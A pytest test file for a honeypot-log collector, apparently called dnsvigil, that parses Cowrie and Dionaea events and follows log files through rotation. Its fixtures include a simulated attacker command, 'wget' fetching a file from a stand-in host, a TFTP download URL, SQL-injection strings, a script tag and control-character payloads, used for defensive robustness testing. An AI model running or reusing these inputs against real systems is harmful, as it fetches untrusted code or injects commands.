"""The logs of Cowrie and Dionaea: followed through rotation, and read whatever attackers put into them."""

import json
import os
import shutil
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from dnsvigil.config.collector import HoneypotSource, ZeekSource
from dnsvigil.records import Cursor
from dnsvigil.sources.honeypots.cowrie import event_of
from dnsvigil.sources.honeypots.dionaea import events_of_connection, events_of_incident
from dnsvigil.sources.honeypots.logs import COWRIE, DIONAEA, DIONAEA_INCIDENTS
from dnsvigil.sources.zeek.cursors import Cursors
from dnsvigil.sources.zeek.follower import Follower
from dnsvigil.sources.zeek.log_types import DNS, LogType
from dnsvigil.sources.zeek.reader import read_batches
from dnsvigil.sources.zeek.recognition import first_log_type
from exporters.zeeklogs import HEADER, Taker, tsv

COWRIES = Path(__file__).with_name("samples") / "cowrie.json"
LINES = COWRIES.read_bytes().splitlines(keepends=True)
CONNECTION = {
    "connection": {"protocol": "ftpd", "transport": "tcp", "type": "accept"},
    "dst_ip": "192.0.2.22", "dst_port": 21, "src_hostname": "", "src_ip": "::ffff:198.51.100.23", "src_port": 4444,
    "timestamp": "2023-11-14T22:22:43.877377",
    "credentials": [{"username": "root", "password": "hunter2"}],
    "ftp": {"commands": [{"command": "SITE", "arguments": ["EXEC", "wget http://one-x.com/a"]}, {"command": "QUIT"}]},
}  # fmt: skip
INCIDENT = {
    "timestamp": "2023-11-14T22:22:44.877377", "name": "dionaea", "origin": "dionaea.download.offer",
    "data": {
        "connection": {
            "transport": "tcp", "local_ip": "192.0.2.22", "remote_ip": "198.51.100.23", "remote_port": 4444
        },
        "url": "tftp://two-x.com/b",
    },
}  # fmt: skip


@pytest.fixture
def taker() -> Taker:
    return Taker()


def text(*records: dict[str, Any]) -> bytes:
    return b"".join(json.dumps(record).encode() + b"\n" for record in records)


def rows(taker: Taker, data: bytes, log_type: LogType) -> list[dict[str, Any]]:
    return [dict(zip(log_type.record, row, strict=True)) for row in taker.take(data, log_type).rows]


def test_each_log_is_known_by_its_first_line() -> None:
    assert first_log_type(LINES[0]) is COWRIE
    assert first_log_type(text(CONNECTION)) is DIONAEA
    assert first_log_type(text(INCIDENT)) is DIONAEA_INCIDENTS


def test_all_that_cowrie_wrote_is_read(taker: Taker) -> None:
    events = [event_of(row) for row in rows(taker, COWRIES.read_bytes(), COWRIE)]
    assert len(events) == len(LINES)
    assert [event.kind for event in events].count("command") == 11
    hosts = {host for event in events for host in event.hosts}
    assert hosts == {
        "files.download-x.com", "google.com", "203.0.113.80", "c2.tftp-x.com", "shell.reverse-x.com", "192.0.2.99",
        "caf.bytes-x.com",
    }  # fmt: skip
    assert {event.kind for event in events if "files.download-x.com" in event.hosts} == {"download", "command"}
    assert {event.honeypot for event in events} == {None, "192.0.2.22"}


def test_dionaeas_connections_and_incidents_are_events(taker: Taker) -> None:
    (row,) = rows(taker, text(CONNECTION), DIONAEA)
    events = list(events_of_connection(row))
    assert [(event.kind, event.hosts) for event in events] == [
        ("connection", ()), ("login", ()), ("command", ("one-x.com",)), ("command", ())
    ]  # fmt: skip
    (row,) = rows(taker, text(INCIDENT), DIONAEA_INCIDENTS)
    (event,) = events_of_incident(row)
    assert (event.kind, event.client, event.hosts) == ("download", "198.51.100.23", ("two-x.com",))
    assert event.ts == datetime(2023, 11, 14, 22, 22, 44, 877377)


def test_what_dionaea_does_itself_is_no_attackers(taker: Taker) -> None:
    listens = CONNECTION | {"connection": {"type": "listen", "transport": "tcp"}}
    assert [list(events_of_connection(row)) for row in rows(taker, text(listens), DIONAEA)] == [[]]


def test_an_address_that_may_be_forged_is_marked(taker: Taker) -> None:
    forged = CONNECTION | {"connection": {"type": "accept", "transport": "udp"}}
    (row,) = rows(taker, text(forged), DIONAEA)
    assert not any(event.real for event in events_of_connection(row))


@pytest.mark.parametrize(
    ("bad", "reason"),
    [
        (b'{"timestamp":"2023-11-14T22:25:41Z","eventid":"cowrie.login.failed","password":"\\ud800"}\n', "json"),
        (LINES[0][:100] + b"\n", "json"),
        (b"\xff\xfe\x00\n", "no_header"),
        (LINES[0].replace(b'"198.51.100.23"', b'"\'); DROP TABLE"'), "address"),
        (LINES[0].replace(b"2023-", b"1823-"), "timestamp"),
        (b'{"timestamp":"2023-11-14T22:25:41Z"}\n', "other_log"),
        (b'{"timestamp":"2023-11-14T22:25:41Z","eventid":"x","input":"' + b"a" * 70_000 + b'"}\n', "too_long"),
    ],
    ids=["surrogate", "cut", "bytes", "address", "time", "other", "long"],
)
def test_a_hostile_line_costs_that_line_alone(taker: Taker, bad: bytes, reason: str) -> None:
    taken = taker.take(b"".join((*LINES[:5], bad, *LINES[5:])), COWRIE)
    assert len(taken.rows) == len(LINES)
    assert dict(taken.skipped) == {reason: 1}


@pytest.mark.parametrize(
    "hostile",
    ["\x00\x1b]0;x\x07\r\n", "<script>'; DROP TABLE findings; --", "\u202e" * 999, "\ud800", 7e308, None, {"a": []}],
)
def test_any_field_of_any_event_may_hold_anything(taker: Taker, hostile: object) -> None:
    made = [json.loads(line) | {field: hostile} for line in LINES for field in json.loads(line)]
    taken = taker.take(text(*made), COWRIE)
    assert len(taken.rows) + sum(taken.skipped.values()) == len(made)
    for row in taken.rows:
        event_of(dict(zip(COWRIE.record, row, strict=True)))


def test_what_an_attacker_types_is_no_record_of_another_log(taker: Taker) -> None:
    """Cowrie writes ``CMD: `` and the command, which could be a record of Zeek's with a prefix."""
    record = '{"ts":1700000000,"id.orig_h":"192.0.2.1","id.resp_h":"192.0.2.2","query":"a.example","qtype":1}'
    typed = json.loads(LINES[3]) | {"input": record, "message": f"CMD: {record}"}
    assert first_log_type(text(typed)) is COWRIE
    assert [row["command"] for row in rows(taker, text(typed), COWRIE)] == [record]
    assert first_log_type(text({"message": record})) is DNS  # as shippers write it


class Followed:
    """Follows a honeypot's folder as the collector does, with what its store would know."""

    def __init__(self, taker: Taker, folder: Path) -> None:
        self._taker = taker
        self._folder = folder
        self._stored: dict[str, Cursor] = {}
        self.skipped = 0
        self.restart()

    def restart(self) -> None:
        self._cursors = Cursors(self._stored.values())
        sources: list[ZeekSource] = [HoneypotSource(self._folder, "pot")]
        self._follower = Follower(sources, self._cursors, 0)

    def read(self) -> list[str]:
        """Return the times of the events that are new."""
        found = []
        for _ in range(2):
            for file in self._follower.pending():
                for batch in read_batches(file.path, file.cursor, file.finished, file.log_type):
                    taken = self._taker.batches([batch])
                    found += [str(row[0]) for row in taken.rows]
                    self.skipped += taken.skipped.total()
                    self._cursors.put(batch.cursor)
                    self._stored[batch.cursor.id] = batch.cursor
                    assert batch.cursor.sensor == "pot"
                self._follower.done(file)
        return found


def times(lines: list[bytes]) -> list[str]:
    return sorted(str(datetime.fromisoformat(json.loads(line)["timestamp"][:-1])) for line in lines)


@pytest.mark.parametrize("way", ["renamed", "truncated"])
def test_a_log_is_followed_through_rotation_and_restarts(taker: Taker, tmp_path: Path, way: str) -> None:
    log = tmp_path / "cowrie.json"
    followed = Followed(taker, tmp_path)
    log.write_bytes(b"".join(LINES[:10]) + LINES[10][:50])
    found = followed.read()
    assert sorted(found) == times(LINES[:10])
    with log.open("ab") as file:
        file.write(LINES[10][50:] + b"".join(LINES[11:15]))
    if way == "renamed":
        log.rename(tmp_path / "cowrie.json.2023-11-14")
    else:
        found += followed.read()
        shutil.copyfile(log, tmp_path / "cowrie.json.1")
        os.truncate(log, 0)
    followed.restart()
    log.write_bytes(b"".join(LINES[15:]))
    found += followed.read()
    followed.restart()
    found += followed.read()
    assert sorted(found) == times(LINES)
    assert followed.skipped == 0


def test_a_folder_of_zeek_is_still_one(taker: Taker, tmp_path: Path) -> None:
    (tmp_path / "dns.log").write_bytes(HEADER + tsv())
    assert len(Followed(taker, tmp_path).read()) == 1
